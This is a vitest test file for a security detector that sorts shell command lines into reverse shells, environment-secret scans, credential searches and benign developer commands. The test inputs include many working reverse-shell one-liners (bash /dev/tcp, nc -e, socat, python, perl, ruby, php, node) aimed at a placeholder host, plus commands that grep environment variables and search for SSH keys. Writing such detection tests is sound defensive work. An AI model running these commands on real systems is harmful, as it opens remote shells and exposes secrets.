import { describe, expect, it } from 'vitest';
import { levelRank } from '../../../../src/security/alert.js';
import {
  classifyCommandLine,
  type CommandLineOptions,
} from '../../../../src/security/detectors/command-line.js';
import { commandFromCmdline } from '../../../../src/security/detectors/command-words.js';
import { extraNetTools } from '../../../../src/security/detectors/reverse-shell.js';

const DEFAULTS: CommandLineOptions = { oneLiners: 'critical' };

function classify(command: string, options = DEFAULTS) {
  return classifyCommandLine({ pid: 42, command }, options);
}

const REVERSE_SHELLS = [
  'bash -i >& /dev/tcp/10.99.0.1/4444 0>&1',
  "bash -c 'bash -i >& /dev/tcp/10.99.0.1/4444 0>&1'",
  'sh -i >& /dev/udp/10.99.0.1/4444 0>&1',
  '0<&196;exec 196<>/dev/tcp/10.99.0.1/4444; sh <&196 >&196 2>&196',
  '/bin/bash -l > /dev/tcp/10.99.0.1/4444 0<&1 2>&1',
  'nc -e /bin/sh 10.99.0.1 4444',
  '/usr/bin/ncat 10.99.0.1 4444 --sh-exec /bin/bash',
  'nc.traditional -nve /bin/bash 10.99.0.1 4444',
  'busybox nc 10.99.0.1 4444 -e sh',
  'rm /tmp/f; mkfifo /tmp/f; cat /tmp/f | /bin/sh -i 2>&1 | nc 10.99.0.1 4444 > /tmp/f',
  'nc 10.99.0.1 4444 | /bin/sh | nc 10.99.0.1 4445',
  'socat tcp-connect:10.99.0.1:4444 exec:/bin/bash,pty,stderr,setsid',
  'socat TCP:10.99.0.1:4444 SYSTEM:sh',
  `python3 -c 'import socket,subprocess,os;s=socket.socket(socket.AF_INET,socket.SOCK_STREAM);s.connect(("10.99.0.1",4444));os.dup2(s.fileno(),0);os.dup2(s.fileno(),1);subprocess.call(["/bin/sh","-i"])'`,
  `python -c 'import socket,os,pty;s=socket.socket();s.connect(("10.99.0.1",4444));[os.dup2(s.fileno(),f) for f in (0,1,2)];pty.spawn("/bin/bash")'`,
  `perl -e 'use Socket;$i="10.99.0.1";$p=4444;socket(S,PF_INET,SOCK_STREAM,getprotobyname("tcp"));if(connect(S,sockaddr_in($p,inet_aton($i)))){open(STDIN,">&S");exec("/bin/sh -i");};'`,
  `perl -MIO -e '$p=fork;exit,if($p);$c=new IO::Socket::INET(PeerAddr,"10.99.0.1:4444");STDIN->fdopen($c,r);system$_ while<>;'`,
  `ruby -rsocket -e 'f=TCPSocket.open("10.99.0.1",4444).to_i;exec sprintf("/bin/sh -i <&%d >&%d 2>&%d",f,f,f)'`,
  `php -r '$sock=fsockopen("10.99.0.1",4444);exec("/bin/sh -i <&3 >&3 2>&3");'`,
  `node -e "require('child_process').exec('sh', {stdio: [require('net').connect(4444, '10.99.0.1')]})"`,
  `gawk 'BEGIN {s = "/inet/tcp/0/10.99.0.1/4444"; while (1) {printf "> " |& s; s |& getline c; while ((c |& getline) > 0) print $0 |& s}}'`,
  `pwsh -c "$c = New-Object System.Net.Sockets.TCPClient('10.99.0.1',4444)"`,
];

const ENV_SCANS = [
  'env | grep -i api_key',
  'env | grep KEY',
  'set | grep -i pass',
  'printenv | grep TOKEN',
  'env -0 | grep -z SECRET',
  'printenv GITHUB_TOKEN',
  'cat /proc/1/environ',
  'strings /proc/*/environ | grep -i key',
  'grep -rn "OPENAI_API_KEY" /',
  'rg -i "secret_key" ~',
  'git grep -n password',
  `python3 -c 'import os; print(dict(os.environ))'`,
  `node -e "console.log(JSON.stringify(process.env))"`,
];

const CREDENTIAL_SEARCHES = [
  'find / -name id_rsa 2>/dev/null',
  'find ~ -iname "*credentials*"',
  'grep -r aws_secret_access_key /home',
  'grep -rl "BEGIN OPENSSH PRIVATE KEY" /',
];

/** Everyday agent and developer commands: none of them may reach warning. */
const BENIGN = [
  'git status',
  'git commit -m "fix tokenizer edge case"',
  'git push origin main',
  'git log --oneline -n 20',
  'npm ci',
  'npm install socket.io',
  'npm run build -- --watch',
  'npx vitest run test/unit',
  'make -j8',
  'gcc -O2 -o main main.c -lpthread',
  'cargo build --release',
  'pytest -k test_socket -x',
  'python -m pytest tests/',
  "python -c 'print(1)'",
  'python3 -c "import sys; print(sys.version)"',
  'python3 -c "import socket; print(socket.gethostname())"',
  `python3 -c "import socket; s=socket.create_connection(('localhost', 5432)); print('up')"`,
  `python3 -c "import os; print(os.environ.get('HOME'))"`,
  `node -e "console.log(process.env.PATH)"`,
  "perl -pi -e 's/foo/bar/g' src/main.c",
  "ruby -e 'puts 1+1'",
  "php -r 'echo PHP_VERSION;'",
  'grep -rn "useState" src/',
  'grep -rn tokenizer src/',
  'rg "TODO|FIXME" src',
  'rg -n getToken src/',
  "sed -r 's/token/word/' notes.txt",
  'ssh -p 2222 dev@example.com',
  'ssh git@github.com:2222',
  'scp build.tar.gz deploy@10.0.0.5:/srv/',
  'nc -z localhost 5432',
  'nc -zv db 5432',
  'nc -l 8080',
  "timeout 1 bash -c 'echo > /dev/tcp/localhost/5432'",
  "bash -c 'cat < /dev/null > /dev/tcp/127.0.0.1/6379'",
  'socat TCP-LISTEN:8080,fork TCP:localhost:3000',
  'curl -fsSL https://deb.nodesource.com/setup_20.x | bash -',
  '/usr/bin/env node /usr/local/bin/claude',
  'env NODE_ENV=production npm run build',
  'openssl genrsa -out key.pem 2048',
  'tmux new-session -d -s main bash -i',
  'bash -i',
  'docker compose up -d',
  'ls -la ~/.ssh',
  'find . -name "*.ts" -newer package.json',
  'printenv PATH',
  'env | grep -i path',
  "/bin/bash -c -l source /root/.claude/shell-snapshots/snapshot-bash-1763900000-abc.sh && eval 'npm test' \\< /dev/null && pwd -P >| /tmp/claude-8f2d-cwd",
  'node /usr/local/bin/claude --dangerously-skip-permissions',
  'git clone https://github.com/nodejs/node.git',
  'pip install -r requirements.txt',
  'python3 -m http.server 8000',
  'psql -h localhost -p 5432 -U postgres',
  'redis-cli -h 127.0.0.1 -p 6379 ping',
  'ssh -R 8080:localhost:80 dev@example.com',
  'grep -n "password" src/auth/login.ts',
  'kill -9 4444',
  'nc -vz 10.99.0.1 4444',
  'openssl s_client -connect github.com:443 -servername github.com',
  'env | sort',
];

describe('command-line classifier', () => {
  it.each(REVERSE_SHELLS)('flags a reverse shell as critical: %s', (command) => {
    const alert = classify(command);
    expect(alert?.level).toBe('critical');
    expect(alert?.category).toBe('process');
    expect(alert?.title).toBe('Reverse shell detected');
  });

  it.each(ENV_SCANS)('flags environment scanning as a warning: %s', (command) => {
    const alert = classify(command);
    expect(alert).toMatchObject({
      level: 'warning',
      category: 'environment',
      title: 'Environment variable scanning detected',
    });
  });

  it.each(CREDENTIAL_SEARCHES)('flags a credential search as a warning: %s', (command) => {
    expect(classify(command)).toMatchObject({ level: 'warning', category: 'credential_access' });
  });

  it.each(BENIGN)('stays below warning: %s', (command) => {
    const alert = classify(command);
    expect(alert === undefined || levelRank(alert.level) < levelRank('warning')).toBe(true);
  });

  it('follows reverse_shell_one_liners for a connection without a shell', () => {
    const command = `python3 -c "import socket; s=socket.socket(); s.connect(('10.99.0.1', 4444))"`;
    expect(classify(command)?.level).toBe('critical');
    expect(classify(command, { oneLiners: 'warn' })?.level).toBe('warning');
    expect(classify(command, { oneLiners: 'off' })).toBeUndefined();
    const shell = REVERSE_SHELLS[13]!;
    expect(classify(shell, { oneLiners: 'off' })?.level).toBe('critical');
  });

  it('takes the network tools of a pattern database (not its shells and interpreters)', () => {
    const netTools = extraNetTools(['bash', 'python3', 'sqlite3', 'openssl', 'gdb']);
    expect([...netTools]).toEqual(['sqlite3', 'openssl', 'gdb']);
    const wired = 'cat /tmp/f | /bin/sh -i 2>&1 | sqlite3 x > /tmp/f';
    expect(classify(wired)).toBeUndefined();
    expect(classify(wired, { ...DEFAULTS, netTools })).toMatchObject({
      level: 'critical',
      evidence: { process: { pattern: 'shell-net-tool', indicators: ['-i', 'sqlite3'] } },
    });
    expect(classify('gdb -batch x | sh', { ...DEFAULTS, netTools })?.level).toBe('critical');
    // A built-in tool keeps its own test: openssl is one as s_client/s_server only.
    expect(classify('openssl version | sh', { ...DEFAULTS, netTools })).toBeUndefined();
  });

  it('records what matched as evidence', () => {
    const alert = classify('nc -e /bin/sh 10.99.0.1 4444');
    expect(alert?.evidence).toEqual({
      process: {
        pid: 42,
        command: 'nc -e /bin/sh 10.99.0.1 4444',
        pattern: 'nc-exec',
        indicators: ['nc', '-e'],
      },
    });
  });

  it('lists a plain environment dump as info', () => {
    expect(classify('env')?.level).toBe('info');
    expect(classify('printenv')?.level).toBe('info');
  });

  it('reads NUL-separated /proc cmdlines', () => {
    expect(commandFromCmdline('nc\0-e\0/bin/sh\0host\x004444\0')).toBe('nc -e /bin/sh host 4444');
  });
});
